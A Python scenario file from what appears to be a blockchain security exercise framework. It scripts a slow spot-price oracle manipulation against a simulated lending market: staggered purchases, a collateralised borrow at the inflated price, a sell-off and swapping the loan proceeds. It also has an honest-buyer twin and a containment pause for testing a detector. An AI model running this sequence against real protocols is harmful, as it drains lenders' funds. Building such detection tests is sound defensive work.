"""
A price is raised by many small purchases over hours, and then borrowed against.

## Story
A lending market believes what the THIN/USDR pair holds at the moment. Nothing is done in one transaction, so whoever
only looks at single transactions sees a buyer. The attacker had THIN before, and pledges that.

## Steps
1. Sixteen purchases of 30 000 USDR each, ten minutes apart, by one account: the price nearly quadruples.
2. The attacker pledges the THIN it had before, and borrows at the raised price.
3. It sells what it had bought.
4. It turns part of the loan into DAIR.

## Honest twin
A large buyer buys the same amounts at the same times for itself and keeps them. Against a little of it, it borrows what
the pledge would bear at the old price too.

## Containment
The bot pauses the market through the emergency module before the loan.

## References
- Mackinga and others, TWAP Oracle Attacks (https://eprint.iacr.org/2022/445).
"""

from dataclasses import dataclass

from tocsin.chain.contract import Account, Contract, Receipt
from tocsin.exercise.play import Play
from tocsin.exercise.scenario import Expected, Scenario
from tocsin.exercise.scene.people import ETHER
from tocsin.exercise.scene.tokens import DOLLAR, MILLION
from tocsin.exercise.scene.uniswap_v2 import MOST, NEVER
from tocsin.exercise.taxonomy import Tag
from tocsin.exercise.truth import Truth, loss, step, told
from tocsin.model.priority import Priority

STOCK = MILLION * DOLLAR
HELD = 400_000 * ETHER
"""THIN that the attacker had before."""
SLICES, SLICE = 16, 30_000 * DOLLAR
PAUSE_SECONDS = 600
BORROW_PERCENT = 75
PLEDGED_HONESTLY, BORROWED_HONESTLY = 200_000 * ETHER, 50_000 * DOLLAR
"""Of THIN that cost half a dollar before anybody bought."""


@dataclass(frozen=True, slots=True)
class Targets:
    """What the scenario is played on."""

    market: Contract
    attacker: Account
    buyer: Account


def prepare(play: Play) -> Targets:
    """A market with a million dollars, and two accounts with capital."""
    home, scene, founder = play.home, play.scene, play.scene.people.founder
    tokens = scene.tokens
    values = (tokens.thin, tokens.usdr, scene.uniswap_v2.thin_usdr, scene.safe.wallet)
    market = home.deploy(founder, play.library.own("SpotLending"), *values, name="THIN lending market")
    home.do(tokens.usdr.by(founder, "approve", market, MOST))
    home.do(market.by(founder, "lend", STOCK))
    home.do(scene.safe.allows(home, market, "pause"))
    targets = Targets(market, home.account("attacker"), home.account("large buyer"))
    home.do(tokens.thin.by(founder, "transfer", targets.attacker, HELD))
    home.do(tokens.thin.by(targets.attacker, "approve", market, MOST))
    home.do(tokens.thin.by(targets.buyer, "approve", market, MOST))
    for who in (targets.attacker, targets.buyer):
        home.do(tokens.usdr.by(founder, "transfer", who, SLICES * SLICE))
        for token in (tokens.usdr, tokens.thin):
            home.do(token.by(who, "approve", scene.uniswap_v2.router, MOST))
    return targets


def attack(play: Play, targets: Targets) -> Truth:
    """Buy in slices, pledge, borrow, sell, launder."""
    home, tokens, attacker, market = play.home, play.scene.tokens, targets.attacker, targets.market
    bought = _slices(play, attacker)
    pledged = home.do(market.by(attacker, "supply", HELD))
    amount = HELD * home.read(market, "price") // ETHER * BORROW_PERCENT // 100
    borrowed = home.do(market.by(attacker, "borrow", amount))
    sold = _swap(play, attacker, [tokens.thin, tokens.usdr], home.read(tokens.thin, "balanceOf", attacker))
    # What it sold for is its own: half of the loan is gone when less than the other half is left of everything.
    half = amount // 2
    spent = home.read(tokens.usdr, "balanceOf", attacker) - (amount - half)
    laundered = _swap(play, attacker, [tokens.usdr, tokens.dair], spent)
    lost, left = loss(borrowed, tokens.usdr, market, amount), loss(pledged, tokens.thin, market, HELD)
    return told(
        scenario.id,
        attackers=(attacker,),
        victims=(market,),
        steps=(
            *(step("buys THIN for 30 000 USDR", each) for each in bought),
            step("pledges the THIN it had before", pledged, left=[left]),
            step("borrows at the raised price", borrowed, [lost], gone=[]),
            step("sells the THIN it bought", sold),
            step("turns USDR into DAIR", laundered, gone=[loss(laundered, tokens.usdr, market, half)]),
        ),
        knowable=pledged,
    )


def _slices(play: Play, buyer: Account) -> list[Receipt]:
    tokens, bought = play.scene.tokens, []
    for _ in range(SLICES):
        play.home.pass_time(PAUSE_SECONDS)
        bought.append(_swap(play, buyer, [tokens.usdr, tokens.thin], SLICE))
    return bought


def _swap(play: Play, by: Account, path: list[Contract], amount: int) -> Receipt:
    router = play.scene.uniswap_v2.router
    return play.home.do(router.by(by, "swapExactTokensForTokens", amount, 0, path, by, NEVER))


def twin(play: Play, targets: Targets) -> None:
    """The same purchases, for keeps, and a loan that needs no high price."""
    _slices(play, targets.buyer)
    play.home.do(targets.market.by(targets.buyer, "supply", PLEDGED_HONESTLY))
    play.home.do(targets.market.by(targets.buyer, "borrow", BORROWED_HONESTLY))


def contain(play: Play, targets: Targets) -> str:
    """The bot pauses the market before the loan."""
    home, market, attacker = play.home, targets.market, targets.attacker
    _slices(play, attacker)
    home.do(market.by(attacker, "supply", HELD))
    home.do(play.scene.safe.fires(market, "pause"))
    return home.refused(market.by(attacker, "borrow", DOLLAR))


scenario = Scenario(
    id="slow-price-manipulation",
    priority=Priority.P2,
    tags=(Tag.PRICE_ORACLE, Tag.EXECUTION, Tag.DEFENSE_EVASION, Tag.IMPACT),
    expects=Expected(detectors=("spread-price-manipulation",)),
    prepare=prepare,
    attack=attack,
    twin=twin,
    contain=contain,
)
